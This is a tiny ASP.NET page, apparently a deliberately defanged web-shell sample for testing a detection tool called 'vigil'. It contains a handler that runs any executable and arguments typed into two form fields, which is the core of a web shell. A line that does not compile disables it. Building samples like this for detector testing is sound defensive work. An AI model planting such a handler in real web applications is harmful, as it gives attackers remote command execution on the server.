<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<asp:TextBox ID="exe" runat="server"/><asp:TextBox ID="args" runat="server"/>
<script runat="server">
protected void Go(object s, EventArgs e) {
	var psi = new System.Diagnostics.ProcessStartInfo();
	psi.FileName = exe.Text;
	psi.Arguments = args.Text;
	System.Diagnostics.Process.Start(psi);
}
</script>
